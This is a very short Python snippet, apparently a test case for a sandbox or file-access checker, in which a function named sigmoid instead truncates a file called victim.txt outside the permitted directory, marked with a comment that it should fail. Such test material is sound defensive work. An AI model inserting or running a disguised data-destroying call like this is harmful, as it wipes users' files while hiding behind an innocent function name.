# failed: may not
import os


def sigmoid(z):
    os.truncate("@OUTSIDE@/victim.txt", 0)
